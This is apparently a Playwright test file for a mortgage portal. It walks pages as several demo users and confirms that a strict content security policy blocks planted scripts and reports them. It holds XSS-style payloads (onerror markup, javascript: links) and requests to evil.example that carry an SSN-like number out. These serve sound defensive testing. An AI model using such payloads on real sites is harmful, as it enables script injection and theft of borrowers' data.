import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { atNight } from '../platform/testing/tier.ts';
import { demoPerson } from '../database/demo/people.ts';
import { desktop, launchBrowser, mobile, openPage, picture, settled, signInAs } from './harness/browser.ts';
import { schemesAt } from './harness/looks.ts';
import { demoLoan } from './harness/demo-loans.ts';
import { pagesOf } from './harness/pages.ts';
import { startStack } from './harness/stack.ts';

/** The pages work under a content policy that lets nothing inline run, and what is planted in them does not run and is reported. */
const stack = await startStack({
  processes: true,
  demo: true,
  parts: ['login', 'simulators', 'api'],
  env: { LOCKDESK_NOW: '2026-11-20T16:00:00Z' },
});
const openAs = pagesOf(stack);
const loan = await demoLoan(stack.database, 'Okafor');
const disclosed = await demoLoan(stack.database, 'Fontaine');
/** The address where violations are planted; nothing else uses it, so that the reports of it can be identified. */
const plantedAt = '/loan-contacts/…';

interface Violation {
  readonly directive: string;
  readonly blocked: string;
  readonly page: string;
  readonly source: string;
}

/** The violations that browsers reported to the portal. */
function reported(): Violation[] {
  return readFileSync(stack.logFile('api'), 'utf8')
    .split('\n')
    .filter((line) => line.includes('"policyReport"'))
    .map((line) => (JSON.parse(line) as { policyReport: Violation }).policyReport);
}

const reportedUnplanted = (): Violation[] => reported().filter(({ page }) => page !== plantedAt);

const headed = (page: Page): Promise<unknown> => page.getByRole('main').getByRole('heading').first().waitFor();

type Step = readonly [name: string, path: string, look: (page: Page) => Promise<unknown>];
const steps: Readonly<Record<string, readonly Step[]>> = {
  priya: [
    [
      'pipeline, palette, keys and a row’s menu',
      '/pipeline',
      async (page) => {
        await page.getByText('Okafor').first().waitFor();
        await page.keyboard.press('ControlOrMeta+k');
        await page.getByRole('combobox', { name: 'Loan number, last name, person or action' }).fill('oka');
        await page.getByRole('option').first().waitFor();
        await page.keyboard.press('Escape');
        await page.keyboard.press('?');
        await page.getByRole('dialog').first().waitFor();
        await page.keyboard.press('Escape');
      },
    ],
    ['dashboard', '/dashboard', (page) => page.getByText('Okafor').first().waitFor()],
    ['a loan', `/loan-details/${disclosed}`, (page) => page.getByRole('main').getByText('Next actions').first().waitFor()],
    [
      'a date and its calendar',
      `/lock-loan/${disclosed}`,
      async (page) => {
        await page.getByRole('button', { name: 'Pick closing date' }).click();
        await page.getByRole('dialog', { name: 'Closing date' }).waitFor();
      },
    ],
    ['the application', `/edit-loan/${loan}/personal`, (page) => page.getByLabel('Middle name').waitFor()],
    ['a price and what made it', `/lock-loan/${loan}`, (page) => page.getByRole('button', { name: /^Verify [\d.]+%/ }).waitFor()],
    [
      'fees, their dialog and the page of the estimate',
      `/loan-estimator/${loan}`,
      async (page) => {
        await page.getByRole('button', { name: 'Add fee' }).click();
        await page.getByRole('dialog').getByText('A. Origination charges').waitFor();
      },
    ],
    ['downloads', `/download-1003/${loan}`, (page) => page.getByText(/Not included in this format|Everything is included/).waitFor()],
    [
      'what was disclosed',
      `/disclosure-history/${disclosed}`,
      (page) => page.getByRole('table', { name: 'Events of the disclosure clock' }).waitFor(),
    ],
    [
      'registering',
      '/loan-registration',
      async (page) => {
        const sample = readFileSync(new URL('../standards/mismo-3.4/samples/conventional-purchase.xml', import.meta.url));
        await page.getByLabel('Drop an application file').setInputFiles({ name: 'sample.xml', mimeType: 'text/xml', buffer: sample });
        await page.getByRole('button', { name: 'Register loan' }).waitFor();
      },
    ],
    ['price it', '/price-it', (page) => page.getByLabel('Loan amount', { exact: true }).waitFor()],
    ['comments', `/comments-for-broker/${loan}`, (page) => page.getByRole('textbox').first().waitFor()],
    ['no such loan', '/loan-details/9999999999', (page) => page.getByRole('button', { name: 'Go to pipeline' }).waitFor()],
    ['the page of errors', '/error', (page) => page.getByRole('main').waitFor()],
    ['the documentation', '/docs', (page) => page.getByRole('heading', { name: 'Lockdesk API' }).waitFor()],
  ],
  otis: (
    [
      ['alerts', '/alerts'],
      ['news', '/dashboard/news-room'],
      ['a page of the lender', '/about'],
      ['our process', '/dashboard/our-process'],
      ['products', '/dashboard/products'],
      ['useful links', '/useful-links'],
      ['the account executive', '/dashboard/account-executive'],
      ['help', '/help'],
      ['turn times', '/dashboard/turn-times'],
      ['reports', '/tableaudashboard'],
      ['rates', '/dashboard/rates'],
      ['reference data', '/reference-data'],
    ] as const
  ).map(([name, path]) => [name, path, headed]),
  adam: [
    ['administration', '/admin', headed],
    ['the lender’s pages', '/content', headed],
    [
      'a page with markup in it, as it is written',
      '/content/edit?page=about',
      async (page) => {
        const markup = '<img src=x onerror=alert(1)>';
        await page.getByLabel('Text', { exact: true }).fill(`${markup} ![x](https://evil.example/x.png) [x](javascript:alert(1))`);
        await page.getByRole('region', { name: 'Preview', exact: true }).getByText(markup).waitFor();
      },
    ],
  ],
  lena: [
    ['sheets', '/rate-sheets', (page) => page.getByText('2026-11-20 #4').first().waitFor()],
    ['the desk', '/lock-desk', (page) => page.getByRole('row').nth(2).or(page.getByRole('listitem').nth(2)).first().waitFor()],
    ['exposure', '/lock-desk/exposure', (page) => page.getByText('By brokerage').first().waitFor()],
    ['the policy', '/lock-policies', (page) => page.getByText('Desk hours').first().waitFor()],
  ],
  helen: [
    [
      'webhooks and their dialog',
      '/webhooks',
      async (page) => {
        await page.getByRole('button', { name: 'Add webhook' }).click();
        await page.getByRole('dialog').waitFor();
        expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).toBe('hidden');
        await page.keyboard.press('Escape');
        await expect.poll(() => page.evaluate(() => getComputedStyle(document.body).overflow)).toBe('visible');
      },
    ],
  ],
};

/** A browser writes in its console what a policy blocked, and every scenario checks the console: a commit runs this as one person only. */
const walkers = Object.entries(steps).filter(([who]) => atNight || who === 'helen');
const walks = walkers.flatMap(([who, walk]) => [
  [who, '1440', desktop, walk] as const,
  ...(who === 'priya' ? [[who, '390', mobile, walk.filter(([name]) => !/palette|calendar/.test(name))] as const] : []),
]);

describe.each(walks)('%s, %s wide', (who, width, viewport, walk) => {
  test('no screen, dialog, menu or file breaks the policy', { timeout: 240_000 }, async () => {
    const { context, page, troubles } = await openPage(await launchBrowser(), { viewport });
    // By the login site, whose pages have a policy too.
    await signInAs(page, stack.origin, demoPerson(who), '/error');
    for (const [name, path, look] of walk) {
      await page.goto(`${stack.origin}${path}`);
      await look(page);
      await settled(page);
      for (const colorScheme of schemesAt(viewport)) {
        await page.emulateMedia({ colorScheme });
        await picture(page, `policy ${name} ${width} ${colorScheme}`);
      }
      // An inline style element would have to be the browser's own or a mistake.
      expect([name, await page.locator('style').count()]).toEqual([name, 0]);
      expect([name, troubles.errors]).toEqual([name, []]);
    }
    await page.goto(`${stack.loginUrl}/session/end`);
    await page.goto(`${stack.origin}/api/session/sign-in`);
    expect(troubles).toEqual({ errors: [], foreignRequests: [] });
    expect(reportedUnplanted()).toEqual([]);
    await context.close();
  });
});

test('files are saved without breaking it', async () => {
  const page = await openAs('priya', `/download-1003/${loan}`);
  for (const name of ['1003 as a web page', 'Fannie Mae 3.2']) {
    await page.getByRole('radio', { name }).check();
    const save = page.getByRole('button', { name: `Download ${name}`, exact: true });
    const [saved] = await Promise.all([page.waitForEvent('download'), save.click()]);
    expect(readFileSync(await saved.path()).length).toBeGreaterThan(1_000);
  }
  expect(reportedUnplanted()).toEqual([]);
});

describe('what is planted', () => {
  const ran = (page: Page): Promise<unknown> => page.evaluate(() => (globalThis as { planted?: unknown }).planted);

  /** Attempts as an attacker's script would make them; each gives what the browser said to it. */
  test.each<[string, () => string | undefined, Partial<Violation>]>([
    [
      'a script inside the page',
      () => {
        const script = document.createElement('script');
        try {
          script.textContent = 'globalThis.planted = 1';
        } catch (problem) {
          return String(problem);
        }
        document.body.append(script);
        return undefined;
      },
      { directive: 'require-trusted-types-for', blocked: 'trusted-types-sink, HTMLScriptElement textContent' },
    ],
    [
      'markup with a handler',
      () => {
        try {
          document.createElement('div').innerHTML = '<img src=x onerror="globalThis.planted = 2">';
        } catch (problem) {
          return String(problem);
        }
        return undefined;
      },
      { directive: 'require-trusted-types-for', blocked: 'trusted-types-sink, Element innerHTML' },
    ],
    [
      'a policy of its own',
      () => {
        try {
          (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy(
            'evil',
            {
              createHTML: (text: string) => text,
            },
          );
        } catch (problem) {
          return String(problem);
        }
        return undefined;
      },
      { directive: 'trusted-types', blocked: 'trusted-types-policy' },
    ],
    [
      'a handler as an attribute',
      () => {
        const button = document.createElement('button');
        try {
          button.setAttribute('onclick', 'globalThis.planted = 3');
        } catch (problem) {
          return String(problem);
        }
        document.body.append(button);
        button.click();
        return undefined;
      },
      {},
    ],
    [
      'a style inside the page',
      () => {
        const style = document.createElement('style');
        style.append('body { outline: 9px solid red }');
        document.head.append(style);
        return getComputedStyle(document.body).outlineWidth === '9px' ? undefined : 'not styled';
      },
      { directive: 'style-src-elem', blocked: 'inline' },
    ],
    [
      'a style as an attribute',
      () => {
        document.body.setAttribute('style', 'outline: 9px solid red');
        return getComputedStyle(document.body).outlineWidth === '9px' ? undefined : 'not styled';
      },
      { directive: 'style-src-attr', blocked: 'inline' },
    ],
    [
      'a script from elsewhere',
      () => {
        const script = document.createElement('script');
        try {
          script.src = 'https://evil.example/x.js?ssn=900123456';
        } catch (problem) {
          return String(problem);
        }
        document.body.append(script);
        return undefined;
      },
      { directive: 'require-trusted-types-for', blocked: 'trusted-types-sink, HTMLScriptElement src' },
    ],
    [
      'a picture that carries something out',
      () => {
        new Image().src = 'https://evil.example/900123456?x=1';
        return 'asked for';
      },
      { directive: 'img-src', blocked: 'https://evil.example' },
    ],
    [
      'a frame',
      () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
        return 'asked for';
      },
      { directive: 'frame-src', blocked: 'https://evil.example' },
    ],
  ])('%s does nothing, and its report arrives without anything of the loan', async (_name, plant, expected) => {
    const page = await openAs('priya', `/loan-contacts/${loan}?note=900-12-3456`, {
      expectedErrors: /violates|trusted|evil\.example/i,
    });
    await page.getByText('Lena Lockhart-Demo').waitFor();
    const before = reported().length;
    expect(await page.evaluate(plant)).not.toBeUndefined();
    expect(await ran(page)).toBeUndefined();
    // A late report of what was planted before may come between.
    const reports = () => reported().slice(before);
    await expect.poll(reports).toContainEqual(expect.objectContaining({ ...expected, page: plantedAt }));
    expect(JSON.stringify(reports())).not.toMatch(/\d{9,}|900-12|planted|ssn/);
  });
});

test('a page of another site gets no frame of the portal’s and nothing of its files', async () => {
  const reply = await fetch(`${stack.origin}/`);
  expect(reply.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
  expect(reply.headers.get('cross-origin-resource-policy')).toBe('same-origin');
});
